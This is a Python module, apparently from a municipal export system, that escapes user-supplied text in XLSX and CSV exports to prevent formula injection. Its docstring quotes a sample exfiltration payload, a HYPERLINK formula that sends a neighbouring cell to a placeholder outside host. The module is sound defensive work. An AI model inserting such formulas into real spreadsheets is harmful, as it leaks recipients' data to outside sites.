"""Text from users in spreadsheets: written as text, never as a formula (CSV/formula injection).

A provider name, a reason or a username is typed by someone outside the municipality. Opened in Excel or
LibreOffice, a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) can be taken for a formula: ``=HYPERLINK("http://x/?"&A2,"Bekijk")`` sends the neighbouring cell to
another site when clicked. Every export writer passes each text value through this module (OWASP, "CSV
Injection"):

- ``xlsx_text`` for openpyxl: the cell is a string cell (``data_type`` ``s``, never ``f``) and, when the
  text starts with one of those characters, carries the ``quotePrefix`` style: Excel and LibreOffice show
  it as the literal text (as if typed after an apostrophe) and keep it text when the cell is edited. The
  value itself is unchanged, so a reader of the file gets exactly what was typed. Characters that XML
  cannot hold (control characters other than tab, line feed and carriage return) become U+FFFD, so that
  a hostile value cannot break the export either.
- ``csv_text`` for CSV, which has no types: a single quote is put in front of such a text.

Numbers, dates and booleans are not text and stay what they are (real Excel types).
"""

import re
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What a spreadsheet may read as the start of a formula (OWASP): = + - @, and tab and carriage return,
# which some programs skip before looking at the first character.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What openpyxl refuses to write (XML 1.0 has no place for these control characters).
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could take this text for a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def xlsx_text(ws: WriteOnlyWorksheet, value: Any) -> Any:
    """``value`` ready for a write-only worksheet row: text that could be read as a formula (or holds
    characters XML cannot hold) as a string cell with the quote prefix; anything else unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if ILLEGAL_CHARACTERS.search(value):
        value = ILLEGAL_CHARACTERS.sub(REPLACEMENT, value)
    elif not looks_like_formula(value):
        return value  # plain text: openpyxl writes it as a string cell
    cell = WriteOnlyCell(ws)
    text_into(cell, value)
    return cell


def text_into(cell: Any, value: str) -> None:
    """Put ``value`` into an openpyxl cell as text: never a formula, quote-prefixed when it starts like one."""
    value = ILLEGAL_CHARACTERS.sub(REPLACEMENT, value)
    cell.value = value  # openpyxl binds a text starting with "=" as a formula ...
    cell.data_type = "s"  # ... so it is made a string cell afterwards
    if looks_like_formula(value):
        cell.quotePrefix = True


def csv_text(value: Any) -> Any:
    """``value`` ready for a CSV row: text that could be read as a formula gets a leading single quote."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value
